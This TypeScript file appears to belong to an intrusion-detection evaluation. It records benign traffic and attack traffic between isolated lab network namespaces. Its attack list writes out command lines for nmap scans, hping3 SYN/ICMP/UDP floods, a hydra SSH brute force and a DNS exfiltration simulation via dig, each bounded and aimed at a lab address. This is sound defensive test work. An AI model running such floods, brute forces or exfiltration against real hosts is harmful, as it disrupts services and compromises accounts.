@@ -1,0 +1,118 @@
+// Live traffic for the evaluation, recorded with tcpdump between two namespaces the evaluation creates
+// and removes (10.77.x.0/24 on a veth pair, no route out): two stretches of benign traffic (curl, dig,
+// ssh logins, ping, a bounded iperf3 transfer) and one capture per attack tool, every generator bounded
+// in count and time. Needs root and the tools the live tests use.
+
+import { spawn, type ChildProcess } from 'node:child_process';
+import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { createHash } from 'node:crypto';
+import { join } from 'node:path';
+import { createNetnsPair, waitForExit, waitForStderr, type NetnsPair } from '../test/support/netns.js';
+import { startServices, waitForPort, type Services } from '../test/support/live-services.js';
+import type { AttackType, LabelledCapture } from './model-eval.js';
+
+export interface LiveRecordings {
+  benignTrain: string;
+  benignHeldOut: string;
+  attacks: LabelledCapture[];
+}
+
+interface LiveAttack { name: string; type: AttackType; cmd: (net: NetnsPair, dir: string) => string[]; seconds: number }
+
+const ATTACKS: LiveAttack[] = [
+  { name: 'nmap-syn-scan', type: 'scan', seconds: 40, cmd: (n) => ['nmap', '-n', '-Pn', '-sS', '-p', '1-1000', '--max-retries', '0', '-T4', '--host-timeout', '30s', n.ipA] },
+  { name: 'nmap-connect-scan', type: 'scan', seconds: 40, cmd: (n) => ['nmap', '-n', '-Pn', '-sT', '-p', '1-1000', '--max-retries', '0', '-T4', '--host-timeout', '30s', n.ipA] },
+  { name: 'nmap-udp-scan', type: 'scan', seconds: 40, cmd: (n) => ['nmap', '-n', '-Pn', '-sU', '-p', '1-300', '--max-retries', '0', '-T5', '--host-timeout', '30s', n.ipA] },
+  { name: 'hping3-syn-flood', type: 'flood', seconds: 20, cmd: (n) => ['hping3', '-q', '-S', '-p', '8081', '-i', 'u200', '-c', '5000', n.ipA] },
+  { name: 'hping3-icmp-flood', type: 'flood', seconds: 20, cmd: (n) => ['hping3', '-q', '-1', '-i', 'u500', '-c', '3000', n.ipA] },
+  { name: 'hping3-udp-flood', type: 'flood', seconds: 20, cmd: (n) => ['hping3', '-q', '-2', '-p', '9999', '-i', 'u100', '-c', '12000', n.ipA] },
+  { name: 'hydra-ssh', type: 'brute_force', seconds: 30, cmd: (n, d) => ['hydra', '-l', 'admin', '-P', join(d, 'passwords.txt'), '-t', '16', '-I', `ssh://${n.ipA}`] },
+  { name: 'dig-dns-exfiltration', type: 'tunnel', seconds: 30, cmd: (n, d) => ['dig', `@${n.ipA}`, '-f', join(d, 'exfil-names.txt'), '+tries=1', '+time=1'] },
+];
+
+function run(ns: string, cmd: string[], seconds: number, children: ChildProcess[]): Promise<void> {
+  const c = spawn('ip', ['netns', 'exec', ns, 'timeout', '-s', 'KILL', String(seconds), ...cmd], { stdio: 'ignore' });
+  children.push(c);
+  return new Promise((r) => c.on('exit', () => r()));
+}
+
+async function record(net: NetnsPair, file: string, children: ChildProcess[], body: () => Promise<void>): Promise<void> {
+  const dump = net.spawn(net.nsA, ['tcpdump', '-i', net.ifA, '-w', file, '-U', '--immediate-mode', '-s', '0']);
+  children.push(dump);
+  const exited = waitForExit(dump, 600_000);
+  await waitForStderr(dump, /listening on/, 20_000);
+  await body();
+  await new Promise((r) => setTimeout(r, 500));
+  dump.kill('SIGINT');
+  await exited;
+}
+
+/** About `seconds` of an ordinary client's traffic to the services, paced by a seeded schedule. */
+async function benign(net: NetnsPair, services: Services, seconds: number, seed: number, children: ChildProcess[]): Promise<void> {
+  let s = seed;
+  const rand = (): number => { s = (Math.imul(s, 1103515245) + 12345) >>> 0; return s / 4294967296; };
+  const end = Date.now() + seconds * 1000;
+  const names = ['www.example.com', 'mail.example.org', 'api.example.net', 'cdn.example.com', 'docs.example.org'];
+  while (Date.now() < end) {
+    const r = rand();
+    if (r < 0.45) await run(net.nsB, ['curl', '-s', '-o', '/dev/null', '--max-time', '5', `http://${net.ipA}/index.html`], 10, children);
+    else if (r < 0.75) await run(net.nsB, ['dig', `@${net.ipA}`, '+tries=1', '+time=2', names[Math.floor(rand() * names.length)], 'A'], 10, children);
+    else if (r < 0.85) {
+      await run(net.nsB, ['ssh', '-i', services.sshKey, '-o', 'StrictHostKeyChecking=no', '-o', 'UserKnownHostsFile=/dev/null',
+        '-o', 'BatchMode=yes', '-o', 'ConnectTimeout=5', `root@${net.ipA}`, 'true'], 20, children);
+    } else if (r < 0.97) await run(net.nsB, ['ping', '-c', '3', '-i', '0.3', '-W', '1', net.ipA], 10, children);
+    else await run(net.nsB, ['iperf3', '-c', net.ipA, '-t', '1', '-b', '50M'], 15, children);
+    await new Promise((res) => setTimeout(res, 200 + rand() * 1800));
+  }
+}
+
+/** The recordings a previous run left in dir (same names), or null when any is missing. */
+export function previousRecordings(dir: string): LiveRecordings | null {
+  const ipFile = join(dir, 'attacker.txt');
+  if (!existsSync(ipFile)) return null;
+  const attackerIp = readFileSync(ipFile, 'utf8').trim();
+  const benignTrain = join(dir, 'live-benign-train.pcap');
+  const benignHeldOut = join(dir, 'live-benign-heldout.pcap');
+  const attacks = ATTACKS.map((a) => ({ path: join(dir, `live-${a.name}.pcap`), type: a.type, hosts: [attackerIp] }));
+  return [benignTrain, benignHeldOut, ...attacks.map((a) => a.path)].every((f) => existsSync(f)) ? { benignTrain, benignHeldOut, attacks } : null;
+}
+
+/** Records the benign stretches and every attack into dir; the namespaces are removed afterwards. */
+export async function recordLiveTraffic(dir: string, benignSeconds: number, log: (s: string) => void = () => undefined): Promise<LiveRecordings> {
+  mkdirSync(dir, { recursive: true });
+  const children: ChildProcess[] = [];
+  const net = createNetnsPair('ev');
+  let services: Services | null = null;
+  try {
+    net.exec(net.nsA, ['sysctl', '-q', '-w', 'net.ipv4.icmp_ratelimit=0']);
+    services = startServices(net, children);
+    await waitForPort(net, net.nsB, net.ipA, 22, 15_000);
+    await waitForPort(net, net.nsB, net.ipA, 80, 15_000);
+    const iperf = net.spawn(net.nsA, ['iperf3', '-s', '-B', net.ipA], true);
+    children.push(iperf);
+    await waitForPort(net, net.nsB, net.ipA, 5201, 10_000);
+    writeFileSync(join(dir, 'passwords.txt'), Array.from({ length: 40 }, (_, i) => `wrong-password-${i}`).join('\n') + '\n');
+    writeFileSync(join(dir, 'exfil-names.txt'), Array.from({ length: 60 }, (_, i) =>
+      `${createHash('sha256').update(`chunk-${i}`).digest('hex').slice(0, 40)}.${i}.exfil.example.com TXT`).join('\n') + '\n');
+    const svc = services;
+    const benignTrain = join(dir, 'live-benign-train.pcap');
+    const benignHeldOut = join(dir, 'live-benign-heldout.pcap');
+    log(`recording ${benignSeconds} s of benign traffic (training)`);
+    await record(net, benignTrain, children, () => benign(net, svc, benignSeconds, 1, children));
+    log(`recording ${benignSeconds} s of benign traffic (held out)`);
+    await record(net, benignHeldOut, children, () => benign(net, svc, benignSeconds, 2, children));
+    const attacks: LabelledCapture[] = [];
+    for (const a of ATTACKS) {
+      log(`recording ${a.name}`);
+      const file = join(dir, `live-${a.name}.pcap`);
+      await record(net, file, children, () => run(net.nsB, a.cmd(net, dir), a.seconds, children));
+      attacks.push({ path: file, type: a.type, hosts: [net.ipB] });
+    }
+    writeFileSync(join(dir, 'attacker.txt'), net.ipB + '\n');
+    return { benignTrain, benignHeldOut, attacks };
+  } finally {
+    services?.stop();
+    for (const c of children) c.kill('SIGKILL');
+    net.destroy();
+  }
+}
